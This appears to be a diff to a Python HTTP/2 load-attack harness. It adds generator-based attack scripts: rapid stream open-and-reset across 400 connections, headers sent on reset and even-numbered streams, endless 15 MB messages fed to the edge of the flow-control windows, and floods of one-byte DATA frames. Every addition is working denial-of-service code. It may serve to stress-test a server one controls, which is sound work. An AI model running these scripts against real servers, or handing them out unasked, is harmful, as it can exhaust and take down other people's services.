@@ -75,7 +75,7 @@ class Flow:
     self.script = script
     self.pending = memoryview(b"")
     self.wake = 0.0
-    self.finished = False
+    self.started = self.finished = False
     self.reader = h2.FrameReader()
     self.state = "connecting"
     self.tls = target.context if tls else None
@@ -118,8 +118,9 @@ class Attack:
   """Runs scripts over many connections at once until the time is over.
 
   A script is a function of a Target and a number that yields what to do next on
-  its connection: bytes to send, or a number of seconds to wait. When it ends,
-  the connection stays open, silent, unless `close` is set.
+  its connection: bytes to send, or a number of seconds to wait. Each yield
+  returns the FrameReader of the connection. When the script ends, the
+  connection stays open, silent, unless `close` is set.
 
   Attributes:
     counts: What was done, by name.
@@ -231,7 +232,11 @@ class Attack:
       if not flow.pending:
         if flow.finished or flow.wake:
           break
-        step = next(flow.script, None)
+        try:
+          step = flow.script.send(flow.reader if flow.started else None)
+        except StopIteration:
+          step = None
+        flow.started = True
         if step is None:
           flow.finished = True
           if self._half_close:
@@ -312,6 +317,26 @@ def made_you_reset(target, _):
   yield from batches(
       lambda stream: target.request(stream, lm.SCORE, request) +
       h2.window_update(stream, 0))
+
+
+@attack(connections=400)
+def rapid_reset_of_many(target, _):
+  """Opens and resets streams at a moderate rate on each of 400 connections."""
+  yield START
+  call = h2.request_headers(lm.SCORE, tls=target.tls)
+  for step in batches(
+      lambda stream: h2.headers(stream, call) + h2.reset(stream), 50):
+    yield step
+    yield 0.02
+
+
+@attack(connections=8)
+def headers_of_closed_streams(target, _):
+  """Sends headers for streams that were reset before, and for even numbers."""
+  call = h2.request_headers(lm.SCORE, tls=target.tls)
+  yield START + h2.headers(9, call) + h2.reset(9)
+  yield from flood(h2.headers(1, call) + h2.headers(9, call) +
+                   h2.headers(2, call))
 
 
 # ---- Streams that stay.
@@ -836,6 +861,48 @@ def half_messages(target, _):
     yield target.call(stream, lm.SCORE) + h2.data(stream, start)
     yield data_frames(stream, b"x" * 65000)
     yield 0.001
+
+
+@attack(connections=8)
+def messages_fed(target, _):
+  """Sends messages of 15 MB as far as the windows grow, and no end of them."""
+  reader = yield START
+  size = 15 << 20
+  sent, total = {}, 0
+  numbers = range(1, 200, 2)
+  for stream in numbers:
+    start = h2.message(b"x", size)
+    reader = yield target.call(stream, lm.SCORE) + h2.data(stream, start)
+    sent[stream] = len(start)
+    total += len(start)
+  while True:
+    progress = False
+    for stream in numbers:
+      room = min(65535 + reader.windows.get(stream, 0) - sent[stream],
+                 65535 + reader.windows.get(0, 0) - total,
+                 size - 1 - sent[stream], 16384)
+      if room > 0:
+        reader = yield h2.data(stream, b"x" * room)
+        sent[stream] += room
+        total += room
+        progress = True
+    if not progress:
+      reader = yield 0.01
+
+
+@attack(connections=8)
+def messages_in_single_bytes(target, _):
+  """Sends parts of messages as DATA frames of one byte, and no end of them."""
+  reader = yield START
+  total = 0
+  for stream in range(1, 1000, 2):
+    start = h2.message(b"x", 1 << 20)
+    yield target.call(stream, lm.SCORE) + h2.data(stream, start)
+    total += len(start) + 60000
+    for _ in range(60):
+      reader = yield h2.data(stream, b"x") * 1000
+    while total > reader.windows.get(0, 0):
+      reader = yield 0.01
 
 
 @attack(connections=8)
